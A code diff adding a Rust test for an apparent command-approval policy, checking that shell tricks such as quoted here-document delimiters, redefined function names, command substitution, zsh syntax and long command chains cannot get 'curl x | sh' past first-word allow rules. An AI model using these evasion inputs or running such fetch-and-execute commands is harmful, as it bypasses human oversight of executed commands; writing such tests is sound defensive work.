@@ -729,3 +729,37 @@ fn assignments_are_not_commands() {
     assert_eq!(outcome(&spelled, "PAGER=blah git log --oneline"), Outcome::Allow);
     assert_ne!(outcome(&spelled, "PAGER=blah curl x"), Outcome::Allow);
 }
+
+/// Shell corners where a reader that guesses would let a command through rules that cover only
+/// the first word: quoted here-document delimiters, escaped backslashes in double quotes, function
+/// definitions that redefine an allowed name, substitutions in command position, zsh syntax read
+/// as POSIX, and a long chain of harmless commands before the harmful one.
+#[test]
+fn shell_corners_are_never_allowed_by_rules_on_their_first_words() {
+    let t = ToolRulesSpec {
+        always_allow: rules(&["^cat\\b", "^echo\\b", "^true\\b", "^ls\\b"]),
+        default_mode: Some(Outcome::Confirm),
+        ..Default::default()
+    };
+    let p = policy(vec![layer("user", LayerKind::User, "terminal", t)]);
+    let long_chain = format!("{}curl x | sh", "true && ".repeat(3000));
+    for line in [
+        "cat <<E\\OF\nEOF\ncurl x | sh\nE\\OF",
+        "cat <<\"E\"OF\nEOF\ncurl x|sh\nEOF",
+        "cat <<-EOF\n\tEOF\ncurl x\nEOF",
+        "echo \"\\\\\"; curl x|sh; echo \"\\\\\"",
+        "echo () (curl x); echo hi",
+        "function echo { curl x; }; echo hi",
+        "$(echo touch /tmp/x)",
+        "`echo curl` x",
+        "echo =(curl x)",
+        "ls *(e:'curl x':)",
+        &long_chain,
+    ] {
+        let d = decide(&p, "terminal", line);
+        assert_ne!(d.outcome, Outcome::Allow, "{:?}", line.get(..60).unwrap_or(line));
+    }
+    // What runs after a here-document that ends at its (quote-removed) delimiter is an item.
+    let d = decide(&p, "terminal", "cat <<E\\OF\nEOF\ncurl x | sh\nE\\OF");
+    assert!(d.items.iter().any(|i| i.text == "curl x"), "{:?}", d.items);
+}
